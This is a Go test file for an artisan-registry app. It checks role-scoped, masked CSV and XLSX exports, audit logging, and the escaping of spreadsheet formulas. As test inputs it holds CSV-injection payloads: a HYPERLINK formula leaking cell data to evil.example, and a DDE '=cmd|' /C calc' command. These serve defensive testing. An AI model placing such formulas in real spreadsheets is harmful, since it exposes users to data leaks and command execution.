package app_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"shilpkosh/app"
)

// expTable reads an export back into rows of text, header first.
func expTable(t *testing.T, format string, data []byte) [][]string {
	t.Helper()
	if format == app.FormatCSV {
		if !bytes.HasPrefix(data, []byte("\uFEFF")) {
			t.Fatalf("CSV without BOM: %q", data[:min(20, len(data))])
		}
		rows, err := csv.NewReader(bytes.NewReader(data[3:])).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetList()[0])
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// expColumn returns the values of the column whose header starts with name.
func expColumn(rows [][]string, name string) []string {
	col := -1
	for i, h := range rows[0] {
		if h == name || strings.HasPrefix(h, name+" / ") || strings.HasSuffix(h, " / "+name) {
			col = i
		}
	}
	var out []string
	for _, r := range rows[1:] {
		if col >= 0 && col < len(r) {
			out = append(out, r[col])
		} else {
			out = append(out, "")
		}
	}
	return out
}

func TestArtisanExport(t *testing.T) {
	eachArtEnv(t, func(t *testing.T, e *artEnv) {
		ctx := context.Background()
		evil := artInput(`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "9414012345")
		evil.PAN, evil.Tehsil = "ABCPE1234F", "@SUM(1+1)"
		e.create("entry.jaipur", evil)
		e.create("entry.jaipur", artInput("Asha Devi", "9414000001"))
		far := artInput("Jodhpur Weaver", "9414077777")
		far.District, far.Village = "jodhpur", "-2+3"
		e.create("entry.jodhpur", far)

		for _, format := range []string{app.FormatCSV, app.FormatXLSX} {
			// A Jaipur officer exports Jaipur only, unmasked: they may see personal details there.
			var b bytes.Buffer
			n, err := e.svc.Export(ctx, e.actor("dic.jaipur"), app.ArtisanFilter{}, format, "en", &b)
			if err != nil || n != 2 {
				t.Fatalf("%s: dic.jaipur export: %d %v", format, n, err)
			}
			rows := expTable(t, format, b.Bytes())
			head := "district"
			if format == app.FormatXLSX {
				head = "District"
			}
			if got := strings.Join(expColumn(rows, head), ","); got != "jaipur,jaipur" {
				t.Errorf("%s: districts %s, want jaipur only", format, got)
			}
			names := expColumn(rows, map[string]string{"csv": "name", "xlsx": "Name"}[format])
			if names[0] != `'=HYPERLINK("http://evil.example/?"&A1,"Click")` {
				t.Errorf("%s: formula not neutralised: %q", format, names[0])
			}
			mobiles := expColumn(rows, map[string]string{"csv": "mobile", "xlsx": "Mobile"}[format])
			if mobiles[0] != "9414012345" {
				t.Errorf("%s: officer sees %q", format, mobiles[0])
			}
			if !strings.Contains(strings.Join(rows[1], "|"), "'@SUM(1+1)") {
				t.Errorf("%s: @ not neutralised: %v", format, rows[1])
			}

			// An auditor exports every district, masked: the role may not see personal details.
			b.Reset()
			n, err = e.svc.Export(ctx, e.actor("auditor"), app.ArtisanFilter{}, format, "hi", &b)
			if err != nil || n != 3 {
				t.Fatalf("%s: auditor export: %d %v", format, n, err)
			}
			rows = expTable(t, format, b.Bytes())
			head = map[string]string{"csv": "mobile", "xlsx": "मोबाइल"}[format]
			if got := strings.Join(expColumn(rows, head), ","); got != "XXXXXX2345,XXXXXX0001,XXXXXX7777" {
				t.Errorf("%s: auditor mobiles %s", format, got)
			}
			if !strings.Contains(strings.Join(rows[3], "|"), "'-2+3") {
				t.Errorf("%s: minus not neutralised: %v", format, rows[3])
			}
		}

		// The filter narrows the export; a role without export is refused.
		var b bytes.Buffer
		n, err := e.svc.Export(ctx, e.actor("admin"), app.ArtisanFilter{Q: "asha", Limit: 1, Cursor: "ignored"}, app.FormatCSV, "en", &b)
		if err != nil || n != 1 {
			t.Errorf("filtered export: %d %v", n, err)
		}
		if _, err := e.svc.Export(ctx, e.actor("entry.jaipur"), app.ArtisanFilter{}, app.FormatCSV, "en", &b); err != app.ErrForbidden {
			t.Errorf("data entry export: %v", err)
		}
		_, err = e.svc.Export(ctx, e.actor("admin"), app.ArtisanFilter{}, "pdf", "en", &b)
		artWant(t, "pdf export", err, app.EINVALID, "error.invalid")

		// Each export is in the audit log with its filter and row count.
		var entries []app.AuditEntry
		if err := e.db.NewSelect().Model(&entries).Where("action = 'export'").OrderExpr("id").Scan(ctx); err != nil {
			t.Fatal(err)
		}
		if len(entries) != 5 {
			t.Fatalf("%d export audit entries, want 5", len(entries))
		}
		var last struct {
			Filter app.ArtisanFilter `json:"filter"`
			Rows   int               `json:"rows"`
		}
		if err := json.Unmarshal([]byte(entries[4].After), &last); err != nil || last.Rows != 1 || last.Filter.Q != "asha" {
			t.Errorf("audit = %s", entries[4].After)
		}
	})
}

func TestWriteImportReport(t *testing.T) {
	problems := []app.ImportProblem{
		{Row: 2, Field: "aadhaar", Value: "[redacted]", Key: "validation.aadhaar"},
		{Row: 7, Field: "name", Value: "=cmd|' /C calc'!A0", Key: "validation.required"},
	}
	tr := func(key string, _ map[string]string) string { return "T:" + key }
	var b bytes.Buffer
	if err := app.WriteImportReport(&b, problems, "hi", tr); err != nil {
		t.Fatal(err)
	}
	rows := expTable(t, app.FormatXLSX, b.Bytes())
	want := "[[T:imports.report.row T:imports.report.column T:imports.report.value T:imports.report.message] " +
		"[2 आधार [redacted] T:validation.aadhaar] [7 नाम '=cmd|' /C calc'!A0 T:validation.required]]"
	if got := strings.TrimSpace(strings.ReplaceAll(sprintRows(rows), "\n", " ")); got != want {
		t.Errorf("report =\n%s\nwant\n%s", got, want)
	}
}

func sprintRows(rows [][]string) string {
	var parts []string
	for _, r := range rows {
		parts = append(parts, "["+strings.Join(r, " ")+"]")
	}
	return "[" + strings.Join(parts, " ") + "]"
}

func TestSpreadsheetText(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+91 94140": "'+91 94140", "-5": "'-5", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx",
		"\rx": "'\rx", "Asha": "Asha", "": "", "9414012345": "9414012345", "'=1": "'=1", " =1": " =1",
	} {
		if got := app.SpreadsheetText(in); got != want {
			t.Errorf("SpreadsheetText(%q) = %q, want %q", in, got, want)
		}
	}
}
